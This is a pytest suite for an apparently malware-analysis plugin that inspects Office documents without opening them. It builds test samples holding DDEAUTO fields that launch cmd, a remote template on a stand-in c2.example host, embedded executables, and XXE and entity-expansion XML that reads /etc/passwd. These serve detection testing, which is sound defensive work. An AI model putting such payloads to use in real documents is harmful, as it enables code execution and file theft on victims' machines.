"""What an Office document would do, read without opening it."""

import contextlib
import io
import random
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from msoffcrypto.format.ooxml import OOXMLFile

from malbox.sdk import PluginFailure, PluginSkipped
from malbox.sdk.testing import Emitted, run_plugin
from services.plugins.builtin.office import document, package, plugin
from tests.unit.plugins import office_files as made
from tests.unit.plugins.conftest import MakeSample
from tests.unit.plugins.mutations import mutations

MIB = 1024 * 1024
EXCEL = bytes.fromhex("2008020000000000c000000000000046")
EQUATION = bytes.fromhex("02ce020000000000c000000000000046")
CUT_FIELD = made.document_xml(
    "<w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\x cmd</w:instrText></w:r>"
)
MACRO_SHEET = (  # [MS-XLS] 2.4.21 and 2.4.28: a workbook with one sheet of macros
    struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0, 0, 0, 6)
    + struct.pack("<HHIBBBB", 0x85, 13, 0, 0, 1, 5, 0)
    + b"Auto1"
    + struct.pack("<HH", 0x0A, 0)
).ljust(5000, b"\0")
PLAIN = made.document_xml("<w:r><w:t>hello</w:t></w:r>")


def read(sample: Path, scratch: Path, **config: str) -> Emitted:
    return run_plugin(plugin.run, sample, scratch=scratch, config=config)


def encrypted(content: bytes, password: str) -> bytes:
    """The same package, encrypted as Office does since 2010."""
    buffer = io.BytesIO()
    OOXMLFile(io.BytesIO(content)).encrypt(password, buffer)
    return buffer.getvalue()


def docm(macro: str) -> bytes:
    """A Word document with a macro."""
    return made.package(
        {"word/document.xml": PLAIN, "word/vbaProject.bin": made.compound(made.vba_streams({"Module1": macro}))}
    )


def doc(macro: str) -> bytes:
    """The same in the format before."""
    return made.compound({"WordDocument": bytes(64), **made.vba_streams({"Module1": macro}, "Macros/")})


def docx(**parts: bytes | str) -> bytes:
    """A Word document with more parts."""
    return made.package({"word/document.xml": PLAIN, **parts})


def template(target: str) -> bytes:
    """A document whose template is elsewhere."""
    return docx(**{"word/_rels/settings.xml.rels": made.relationships(("attachedTemplate", target))})


def traits(said: Any) -> set[str]:
    return {one["name"] for one in said["traits"]}


@pytest.mark.parametrize("make", [docm, doc])
def test_a_macro_is_read_and_judged(make: Callable[[str], bytes], make_sample: MakeSample, tmp_path: Path) -> None:
    """Its source, what starts it, what it could do and where it would go; a quiet one has no trait."""
    said = read(make_sample(make(made.MACRO)), tmp_path).json("office")
    assert [macro["module"] for macro in said["macros"]] == ["Module1.bas"]
    assert "AutoOpen" in said["macros"][0]["code"]
    assert {("AutoExec", "AutoOpen"), ("Suspicious", "Shell")} <= {(k["kind"], k["keyword"]) for k in said["keywords"]}
    assert {"macro_auto_exec", "macro_runs_programs", "macro_downloads"} <= traits(said)
    assert {"kind": "domain", "value": "c2.example", "context": "macro"} in said["indicators"]
    assert said["problems"] == []
    assert traits(read(make_sample(make(made.QUIET_MACRO)), tmp_path).json("office")) == set()


@pytest.mark.parametrize(
    ("content", "trait"),
    [
        (template("http://c2.example/a.dotm"), "template_remote"),
        (template("\\\\192.0.2.1\\share\\a.dotm"), "template_remote"),
        (docx(**{"word/document.xml": CUT_FIELD}), "dde_field"),
        (docx(**{"word/document.xml": made.document_xml('<w:fldSimple w:instr="DDEAUTO cmd"/>')}), "dde_field"),
        (docx(**{"xl/externalLinks/externalLink1.xml":
            '<e xmlns="urn:x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></e>'}), "dde_field"),
        (docx(**{"word/embeddings/oleObject1.bin": made.compound(
            {"\x01Ole10Native": made.ole10_native("a.exe", "C:\\a.exe", b"MZ")})}), "embedded_program"),
        (docx(**{"word/embeddings/oleObject1.bin": made.compound({"x": b"y"}, clsid=EQUATION)}), "equation_object"),
        (made.compound({"EncryptedPackage": b"x" * 100, "EncryptionInfo": b"y"}), "document_encrypted"),
        (made.compound({"WordDocument": bytes(10) + b"\x00\x01" + bytes(100)}), "document_encrypted"),
        (made.compound({"WordDocument": bytes(100) + b"\x13DDEAUTO c:\\\\x cmd \x14shown\x15"}), "dde_field"),
        (made.compound({"Equation Native": b"x"}), "equation_object"),
        (docx(**{"xl/macrosheets/sheet1.xml": "<a/>"}), "macro_sheet"),
        (made.compound({"Workbook": MACRO_SHEET}, clsid=EXCEL), "macro_sheet"),
    ],
)  # fmt: skip
def test_what_a_document_would_do_is_a_trait(
    content: bytes, trait: str, make_sample: MakeSample, tmp_path: Path
) -> None:
    """Each in a document that holds nothing else; the detail says where."""
    said = read(make_sample(content), tmp_path).json("office")
    assert trait in traits(said)
    assert all(one["detail"] for one in said["traits"])


@pytest.mark.parametrize(
    "content",
    [
        docx(),
        template("Normal.dotm"),
        docx(**{"word/_rels/document.xml.rels": made.relationships(("hyperlink", "https://a.example/"))}),
        docx(**{"word/document.xml": made.document_xml('<w:fldSimple w:instr="PAGE"/>')}),
        made.compound({"WordDocument": bytes(100) + b"\x13PAGE\x141\x15"}),
    ],
)
def test_an_ordinary_document_has_no_trait(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Control of the traits: a link, a page number and a template of one's own are what documents have."""
    said = read(make_sample(content), tmp_path).json("office")
    assert (said["traits"], said["problems"]) == ([], [])


def test_an_embedded_file_is_a_child(make_sample: MakeSample, tmp_path: Path) -> None:
    """Out of the packager's stream, with the path that it had where it was packed."""
    inner = made.compound({"\x01Ole10Native": made.ole10_native("note.txt", "C:\\Users\\ann\\note.txt", b"hello")})
    emitted = read(make_sample(docx(**{"word/embeddings/oleObject1.bin": inner})), tmp_path)
    said = emitted.json("office")
    assert b"hello" in {emitted.content[child["name"]] for child in said["children"]}
    assert "C:\\Users\\ann\\note.txt" in {one["value"] for one in said["indicators"]}
    assert "embedded_program" not in traits(said)


def test_metadata_and_relationships_are_read(make_sample: MakeSample, tmp_path: Path) -> None:
    """Who wrote it, and what it links to."""
    core = '<c:coreProperties xmlns:c="urn:c" xmlns:d="urn:d"><d:creator>Ann</d:creator></c:coreProperties>'
    rels = made.relationships(("hyperlink", "https://a.example/x"))
    said = read(make_sample(docx(**{"docProps/core.xml": core, "word/_rels/document.xml.rels": rels})), tmp_path).json(
        "office"
    )
    assert said["metadata"] == {"creator": "Ann"}
    assert said["relationships"][0]["target"] == "https://a.example/x"
    assert ("url", "https://a.example/x") in {(one["kind"], one["value"]) for one in said["indicators"]}


@pytest.mark.parametrize("config", [{}, {"password": "own"}])
def test_an_encrypted_document_is_read_with_its_password(
    config: dict[str, str], make_sample: MakeSample, tmp_path: Path
) -> None:
    """That of the submission, or the one that Excel tries by itself; with another it stays shut, which is said."""
    password = config.get("password", "VelvetSweatshop")
    content = made.package(
        {
            "word/document.xml": PLAIN,
            "word/vbaProject.bin": made.compound(made.vba_streams({"Module1": made.MACRO})),
            "word/media/image1.png": zipfile_filler(),
        }
    )
    said = read(make_sample(encrypted(content, password)), tmp_path, **config).json("office")
    assert (said["is_encrypted"], said["password"]) == (True, password)
    assert {"document_encrypted", "macro_auto_exec"} <= traits(said)
    shut = read(make_sample(encrypted(content, "unknown to all")), tmp_path).json("office")
    assert (shut["password"], shut["macros"]) == (None, [])
    assert any("passwords" in words for words in shut["problems"])


def zipfile_filler() -> bytes:
    """What does not compress, so that the package is as large as its encryption needs."""
    return random.Random(0).randbytes(8192)  # noqa: S311 - the same every time


@pytest.mark.promise("P38")
def test_a_part_that_unpacks_without_end_is_cut(
    make_sample: MakeSample, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The bytes of each part and of all are counted while they come."""
    monkeypatch.setattr(package, "XML_MAX_BYTES", MIB)
    monkeypatch.setattr(package, "TOTAL_MAX_BYTES", 2 * MIB)
    bomb = docx(**{f"word/part{n}.xml": b"<a>" + b" " * 4 * MIB for n in range(4)})
    said = read(make_sample(bomb), tmp_path).json("office")
    assert said["is_truncated"]
    assert any("more than" in words for words in said["problems"])


@pytest.mark.promise("P38")
def test_entities_and_other_hosts_are_left_alone(make_sample: MakeSample, tmp_path: Path) -> None:
    """No file of ours is read, and nothing multiplies, when XML asks for it."""
    evil = (
        '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY b "bbbbbbbbbb">'
        + "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10 if n else "&b;" * 10}">' for n in range(9))
        + "]><c:coreProperties xmlns:c='urn:c' xmlns:d='urn:d'><d:creator>&f;</d:creator><d:title>&b8;</d:title>"
        + "</c:coreProperties>"
    )
    said = read(make_sample(docx(**{"docProps/core.xml": evil})), tmp_path).json("office")
    assert "root" not in str(said["metadata"])
    assert len(str(said)) < 10_000


@pytest.mark.parametrize(
    "content",
    [b"PK\x03\x04nonsense", b"%PDF-1.7", b"", made.package({})[:30]],
    ids=["no archive", "a PDF document", "nothing", "a package's beginning"],
)
def test_other_files_are_skipped(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Not an error: there is nothing to do."""
    with pytest.raises(PluginSkipped):
        read(make_sample(content), tmp_path)


def test_a_compound_file_that_is_none_fails_in_words(make_sample: MakeSample, tmp_path: Path) -> None:
    """The analyst reads that it is corrupted."""
    with pytest.raises(PluginFailure, match="compound file"):
        read(make_sample(plugin.OLE_MAGIC + b"\xff" * 600), tmp_path)


@pytest.mark.parametrize("content", [docm(made.MACRO), doc(made.MACRO), template("http://c2.example/a.dotm")])
def test_a_damaged_document_is_a_failure_or_a_part_never_a_crash(
    content: bytes, make_sample: MakeSample, tmp_path: Path
) -> None:
    """Cut and flipped in many places: bounded output, or a failure in words."""
    for damaged in mutations(content, 200, "office"):
        with contextlib.suppress(PluginFailure, PluginSkipped):
            said = read(make_sample(damaged), tmp_path).json("office")
            assert len(said["macros"]) <= document.MACROS_MAX
